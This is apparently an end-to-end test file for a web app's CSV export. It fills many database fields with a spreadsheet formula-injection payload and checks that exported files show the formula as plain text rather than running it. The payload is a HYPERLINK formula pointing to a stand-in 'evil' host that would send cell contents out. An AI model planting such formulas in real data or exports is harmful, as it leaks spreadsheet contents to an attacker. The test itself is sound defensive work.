import { readFile } from 'node:fs/promises';
import { sql } from 'kysely';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { storeReport, weekReport } from '../support/circulation.ts';
import { withDatabase } from '../support/database.ts';
import { openInOffice, rowsOf } from '../support/office.ts';
import { mine, storeTwoBrands } from '../web/support/two-brands.ts';
import { startWalk, type Walk } from './support/walk.ts';

const database = withDatabase();
const evil = '=HYPERLINK("http://evil/?"&A1,"点我")';
let walk: Walk;

async function storeEvil(): Promise<void> {
  const { db } = database;
  await storeTwoBrands(db);
  await sql`update products set name = ${evil}, line = ${evil}, brand = ${evil}, owner = ${evil}`.execute(db);
  await sql`update items set text = ${evil} where kind = 'review'`.execute(db);
  await sql`update alerts set card = ${`${evil}\n近3天`}`.execute(db);
  await sql`update actions set cause = ${evil}, owner = ${evil}, expected_effect = ${evil}, raised_by = ${evil}`.execute(
    db,
  );
  await sql`update wall_cards set words = ${evil}, raised_by = ${evil}`.execute(db);
  const sourceId = `s-${mine.product}`;
  await sql`insert into imports (import_id, source_id, file_name, file_sha256, mapping, mapping_version, kind, encoding, format,
      read, accepted, duplicate, template, quarantined, reasons)
    values (gen_random_uuid(), ${sourceId}, ${evil}, 'x', 'm', '1', 'reviews', 'utf-8', 'csv', 1, 0, 0, 0, 1, '{}')`.execute(
    db,
  );
  await sql`insert into quarantined_rows (source_id, row_hash, reason, kind, file_name, row_no, column_name, detail, copies)
    values (${sourceId}, 'x', 'bad_rating', 'reviews', ${evil}, 2, ${evil}, ${evil}, 1)`.execute(db);
  await sql`insert into audit_log (at, login, action, target, detail, address)
    values (now(), ${evil}, 'login', ${evil}, '{}', '')`.execute(db);
  const report = weekReport();
  for (const entry of [...report.lists.black, ...report.lists.red]) entry.name = evil;
  await storeReport(db, { content: JSON.stringify(report) });
}

/** Pages with a table that can be saved, and how many they have; what the last ones show nobody writes. */
const views: [path: string, tables: number, holdsWords: boolean][] = [
  ['/products?week=2026-W47', 1, true],
  ['/items?week=2026-W47', 1, true],
  ['/alerts?state=open', 1, true],
  ['/actions?state=open', 1, true],
  ['/actions?state=ledger', 1, true],
  ['/wall?state=wall', 1, true],
  ['/lists?week=2026-W46', 1, true],
  ['/data?tab=quarantine', 1, true],
  ['/data?tab=imports', 1, true],
  ['/admin/audit', 1, true],
  ['/data?tab=sources', 1, false],
  ['/trends?week=2026-W47', 2, false],
];

async function save(path: string, n: number): Promise<string> {
  const { page, address } = walk;
  await page.goto(address + path);
  const button = page.getByRole('button', { name: '导出', exact: true }).nth(n);
  await button.click();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('menuitem', { name: 'CSV' }).last().click(),
  ]);
  return readFile(await download.path(), 'utf8');
}

beforeAll(async () => {
  await storeEvil();
  walk = await startWalk(database.url);
  const { page, address, token } = walk;
  await page.goto(`${address}/setup`);
  await page.getByLabel('一次性口令').fill(token);
  await page.getByLabel('姓名').fill('王主管');
  await page.getByLabel('登录名').fill('boss');
  await page.getByLabel('密码(至少 10 个字符)').fill('a long and good password');
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: '概览', level: 1 }).waitFor();
});

afterAll(() => walk?.end());

test('the CSV of every view, opened in a spreadsheet, holds what was written and runs none of it', async () => {
  const files: Record<string, string> = {};
  for (const [path, tables, holdsWords] of views)
    for (let n = 0; n < tables; n++) {
      const name = `view${path.replaceAll(/\W/g, '-')}-${n}`;
      files[name] = await save(path, n);
      if (holdsWords) expect(files[name], path).toContain('=HYPERLINK');
    }
  const sheets = openInOffice('csv', files);
  for (const [name, csv] of Object.entries(files)) {
    const written = rowsOf(csv.replace(/^\uFEFF/, '').replaceAll('\r\n', '\n'));
    const cells = sheets.get(name) ?? [];
    expect(written.length, name).toBeGreaterThan(2);
    for (const [r, row] of written.entries())
      for (const [c, { text }] of row.entries()) {
        const { text: shown, isText } = cells[r]?.[c] ?? { text: '', isText: false };
        if (text.includes('HYPERLINK')) expect([isText, shown], name).toEqual([true, text]);
        else if (text !== '' && Number.isFinite(Number(text)))
          expect(Number(shown), `${name} ${text}`).toBe(Number(text));
        else if (isText) expect(shown, name).toBe(text);
      }
  }
  expect(walk.complaints).toEqual([]);
}, 300_000);
